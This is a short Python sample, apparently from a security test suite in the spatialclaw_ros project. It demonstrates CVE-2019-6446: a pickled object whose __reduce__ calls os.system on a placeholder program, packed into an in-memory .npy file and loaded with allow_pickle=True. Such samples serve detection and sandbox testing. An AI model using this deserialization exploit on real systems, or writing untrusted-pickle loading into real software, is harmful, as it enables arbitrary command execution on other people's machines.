# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""An .npy file in memory that holds a pickle: `np.load(..., allow_pickle=True)`.

CVE-2019-6446.
"""

# act: spawn

import io
import os


class Payload:
    def __reduce__(self):
        return (os.system, (PROGRAM,))


memory = io.BytesIO()
np.save(memory, np.array([Payload()], dtype=object), allow_pickle=True)
memory.seek(0)
np.load(memory, allow_pickle=True)
